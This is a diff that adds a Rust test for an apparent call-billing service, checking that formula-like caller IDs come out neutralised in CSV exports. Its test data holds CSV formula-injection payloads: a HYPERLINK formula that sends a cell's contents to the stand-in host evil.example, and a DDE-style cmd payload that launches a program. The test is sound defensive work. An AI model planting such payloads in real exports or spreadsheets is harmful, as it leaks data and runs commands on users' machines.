@@ -128,6 +128,66 @@ async fn billing_csv_round_trips_awkward_fields_without_bom() {
     assert_eq!(rows[0]["direction"], "outbound");
 }
 
+/// A caller id is outside text (a SIP caller can send any): one that a
+/// spreadsheet would run as a formula arrives inert in both billing files;
+/// numbers, leading + or 0 included, arrive as sent.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn billing_csv_neutralises_formula_callers_and_keeps_numbers() {
+    let ts = start().await;
+    // (caller as the device sends it in XML, as the CSV must carry it)
+    let callers = [
+        (
+            "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;call back&quot;)",
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"call back\")",
+        ),
+        (
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+        ),
+        ("-2+3", "'-2+3"),
+        ("+8613800138000", "+8613800138000"),
+        ("02161208234", "02161208234"),
+    ];
+    for (i, (xml, _)) in callers.iter().enumerate() {
+        let (s, e) = (format!("202401081{i}0000"), format!("202401081{i}0100"));
+        push(
+            &ts,
+            &cdr(
+                &format!("{i}{e}-0"),
+                "OU",
+                &format!("5{i}"),
+                xml,
+                "13800001111",
+                &s,
+                &e,
+                30,
+            ),
+        )
+        .await;
+    }
+    rebuild(&ts).await;
+    let tok = token(&ts, "finance").await;
+    for path in [
+        "/export/billing.csv?from=2024-01-08",
+        "/export/billing.csv?from=2024-01-08&per_leg=1",
+    ] {
+        let resp = get_raw(&ts, path, &tok).await;
+        assert_eq!(resp.status(), 200, "{path}");
+        let (_, rows) = parse(&resp.bytes().await.expect("body"));
+        let got: Vec<&str> = rows.iter().map(|r| r["caller"].as_str()).collect();
+        let want: Vec<&str> = callers.iter().map(|c| c.1).collect();
+        assert_eq!(got, want, "{path}");
+    }
+    // The JSON API is no spreadsheet: it carries the caller as sent.
+    let calls = crate::util::get_json(ts.api(), "/api/calls?from=2024-01-08", &tok).await;
+    assert!(
+        calls
+            .to_string()
+            .contains("=HYPERLINK(\\\"http://evil.example/"),
+        "{calls}"
+    );
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn billing_csv_has_bom_only_when_asked_and_per_leg_rows() {
     let ts = start().await;
